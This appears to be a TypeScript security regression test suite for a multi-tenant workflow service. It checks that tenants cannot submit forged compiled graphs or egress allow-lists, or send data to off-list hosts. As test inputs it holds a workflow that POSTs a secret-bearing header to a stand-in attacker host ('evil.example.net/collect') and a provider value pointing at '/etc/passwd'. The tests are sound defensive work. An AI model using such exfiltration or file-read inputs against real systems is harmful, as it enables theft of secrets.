/// <reference types="vite/client" />
// Attack (issue 9 items 1 and 7): the public `runs.start` accepted, from any tenant's key, a hand-made
// compiled graph with its own `httpAllowHosts`, so a tenant chose both what ran and where it could send
// secrets. Public functions now take a workflow id and an input: the deployment compiles its stored
// workflow, the allow-list is its CUTOVER_HTTP_ALLOW_HOSTS on both executors, and a compiled graph is
// accepted only by internal functions (no key reaches them).

import { makeFunctionReference } from "convex/server";
import { convexTest } from "convex-test";
import { HttpResponse, http } from "msw";
import { setupServer } from "msw/node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { api, internal } from "../../convex/_generated/api.js";
import schema from "../../convex/schema.ts";
import { defaultFlagState } from "../../flags/flag.ts";
import { convexStore } from "../../store/convex.ts";
import { compileWorkflow } from "../../workflow/compile.ts";
import { chain, node } from "../graphs.ts";

const modules = import.meta.glob("../../convex/**/*.ts");

const calls: string[] = [];
const server = setupServer(
  http.get("https://api.example.com/quote", () => HttpResponse.json({ quote: 42 })),
  http.all("https://evil.example.net/*", ({ request }) => {
    calls.push(request.url);
    return HttpResponse.json({});
  }),
);
const saved: Record<string, string | undefined> = {};
beforeAll(() => {
  server.listen({ onUnhandledRequest: "error" });
  for (const [k, v] of Object.entries({
    CUTOVER_HTTP_ALLOW_HOSTS: "api.example.com",
    CUTOVER_RUN_PROVIDER: "mock",
    CUTOVER_LOG_LEVEL: "silent",
    OPENAI_API_KEY: "sk-deploymentkeydeploymentkey",
  })) {
    saved[k] = process.env[k];
    process.env[k] = v;
  }
});
afterAll(() => {
  server.close();
  for (const [k, v] of Object.entries(saved)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
});

const quoteGraph = chain([node("quote", "http", { method: "GET", url: "https://api.example.com/quote" })]);

async function tenant(workspaceId = "acme") {
  const t = convexTest(schema, modules);
  const { key } = await t.action(internal.cutover.apiKeys.issue, { workspaceId, name: "tenant" });
  return { t, key };
}

/** The exported functions of every convex/ module: name → registered function. */
async function registered(): Promise<[string, Record<string, unknown>][]> {
  const out: [string, Record<string, unknown>][] = [];
  for (const [path, load] of Object.entries(modules)) {
    if (path.includes("_generated")) continue;
    const mod = (await load()) as Record<string, unknown>;
    for (const [name, fn] of Object.entries(mod)) {
      if (typeof fn === "function" && "exportArgs" in fn) {
        out.push([`${path.replace(/^.*convex\//, "").replace(/\.ts$/, "")}:${name}`, fn as never]);
      }
    }
  }
  return out;
}

describe("public functions", () => {
  it("none takes a compiled graph, an egress list or a secret name; the compiled-graph start is internal", async () => {
    const fns = await registered();
    const publicOnes = fns.filter(([, fn]) => fn.isPublic === true);
    expect(publicOnes.map(([n]) => n)).toContain("cutover/runStart:start");
    for (const [name, fn] of publicOnes) {
      const args = (fn.exportArgs as () => string)();
      expect(args, name).not.toMatch(/workflowJson|compiled|allowHosts|AllowHosts|"secret/);
    }
    const startCompiled = fns.find(([n]) => n === "cutover/runs:startCompiled")![1];
    expect(startCompiled.isInternal).toBe(true);
    expect(fns.some(([n, fn]) => n === "cutover/runs:start" && fn.isPublic)).toBe(false);
  });

  it("a tenant's forged compiled graph has no public function to go to", async () => {
    const { t, key } = await tenant();
    const forged = compileWorkflow(quoteGraph, { allowHosts: ["api.example.com"] });
    if (!forged.ok) throw new Error("graph");
    await expect(
      t.mutation(makeFunctionReference<"mutation">("cutover/runs:start"), {
        apiKey: key,
        workspaceId: "acme",
        runId: "forged",
        workflowJson: JSON.stringify(forged.compiled),
        inputJson: "{}",
        provider: "mock",
        options: { httpAllowHosts: ["evil.example.net"] },
      }),
    ).rejects.toThrow();
    expect(await t.run((ctx) => ctx.db.query("cutover_runs").collect())).toEqual([]);
  });

  it("an egress list in a tenant's run options is refused by the validator", async () => {
    const { t, key } = await tenant();
    await t.mutation(api.cutover.workflows.save, {
      apiKey: key,
      workspaceId: "acme",
      workflowId: "wf_quote",
      graphJson: JSON.stringify(quoteGraph),
    });
    await expect(
      t.action(api.cutover.runStart.start, {
        apiKey: key,
        workspaceId: "acme",
        workflowId: "wf_quote",
        runId: "r1",
        inputJson: "{}",
        provider: "mock",
        options: { httpAllowHosts: ["evil.example.net"] } as never,
      }),
    ).rejects.toThrow(/httpAllowHosts/);
  });

  it("a stored graph calling a host off the deployment's allow-list does not compile (refused before any run)", async () => {
    const { t, key } = await tenant();
    const evil = chain([
      node("cutover", "http", {
        method: "POST",
        url: "https://evil.example.net/collect",
        headers: { "dispatch-secret": "x-placeholder" },
        body: { hello: "world" },
      }),
    ]);
    await t.mutation(api.cutover.workflows.save, {
      apiKey: key,
      workspaceId: "acme",
      workflowId: "wf_evil",
      graphJson: JSON.stringify(evil),
    });
    const start = t.action(api.cutover.runStart.start, {
      apiKey: key,
      workspaceId: "acme",
      workflowId: "wf_evil",
      runId: "r_evil",
      inputJson: "{}",
      provider: "mock",
    });
    await expect(start).rejects.toMatchObject({ data: { code: "WORKFLOW_INVALID" } });
    const res = await t.fetch("/v1/workflows/wf_evil/runs", {
      method: "POST",
      headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
      body: JSON.stringify({ input: {} }),
    });
    expect(res.status).toBe(422);
    await t.finishAllScheduledFunctions(() => {});
    expect(calls).toEqual([]);
  });

  it("a compiled version stored without a saved graph (as the old runs.start let a tenant do) is never run", async () => {
    const { t, key } = await tenant();
    const forged = compileWorkflow(quoteGraph, { allowHosts: ["api.example.com"] });
    if (!forged.ok) throw new Error("graph");
    await t.run((ctx) =>
      ctx.db.insert("cutover_workflowVersions", {
        workspaceId: "acme",
        workflowId: forged.compiled.workflowId,
        workflowVersionId: forged.compiled.workflowVersionId,
        compiledJson: JSON.stringify(forged.compiled),
        createdAt: Date.now(),
      }),
    );
    const res = await t.fetch(`/v1/workflows/${forged.compiled.workflowId}/runs`, {
      method: "POST",
      headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
      body: JSON.stringify({ input: {} }),
    });
    expect(res.status).toBe(404);
    await expect(
      t.action(api.cutover.runStart.start, {
        apiKey: key,
        workspaceId: "acme",
        workflowId: forged.compiled.workflowId,
        runId: "r_forged",
        inputJson: "{}",
        provider: "mock",
      }),
    ).rejects.toMatchObject({ data: { code: "WORKFLOW_NOT_FOUND" } });
  });

  it("a tenant's key cannot start another workspace's run, nor choose a replay file or a router id", async () => {
    const { t, key } = await tenant();
    await t.mutation(api.cutover.workflows.save, {
      apiKey: key,
      workspaceId: "acme",
      workflowId: "wf_quote",
      graphJson: JSON.stringify(quoteGraph),
    });
    const base = {
      apiKey: key,
      workspaceId: "acme",
      workflowId: "wf_quote",
      runId: "r2",
      inputJson: "{}",
      provider: "mock",
    };
    await expect(
      t.action(api.cutover.runStart.start, { ...base, workspaceId: "globex" }),
    ).rejects.toMatchObject({
      data: { code: "FORBIDDEN" },
    });
    await expect(
      t.action(api.cutover.runStart.start, { ...base, provider: "replay:/etc/passwd" }),
    ).rejects.toMatchObject({ data: { code: "INPUT_INVALID" } });
    await expect(
      t.action(api.cutover.runStart.start, { ...base, runId: "victim~shadow" }),
    ).rejects.toMatchObject({
      data: { code: "INPUT_INVALID" },
    });
  });
});

describe("one allow-list, the deployment's, on both executors (item 7)", () => {
  it("a run started through POST /v1/workflows/{id}/runs calls an allowed host on Convex, and its Inngest shadow agrees", async () => {
    const { t, key } = await tenant();
    await t.mutation(api.cutover.workflows.save, {
      apiKey: key,
      workspaceId: "acme",
      workflowId: "wf_quote",
      graphJson: JSON.stringify(quoteGraph),
    });
    await convexStore(t).compareAndSetFlag({
      workflowId: "wf_quote",
      expectedVersion: 0,
      next: { ...defaultFlagState(), workspaceOverrides: { acme: { stage: "shadow", samplePct: 100 } } },
      actor: "test",
      reason: "item 7",
    });
    const res = await t.fetch("/v1/workflows/wf_quote/runs", {
      method: "POST",
      headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
      body: JSON.stringify({ input: {}, runId: "q1" }),
    });
    expect(res.status).toBe(202);
    await t.finishAllScheduledFunctions(() => {});
    const found = await t.query(api.cutover.runs.get, { apiKey: key, workspaceId: "acme", runId: "q1" });
    expect(found?.run.status).toBe("completed");
    expect(JSON.parse(found!.run.outputJson!)).toMatchObject({ body: { quote: 42 } });
    const results = await t.run((ctx) => ctx.db.query("cutover_parityResults").collect());
    expect(results.map((r) => r.verdict)).toEqual(["match"]);
  });
});
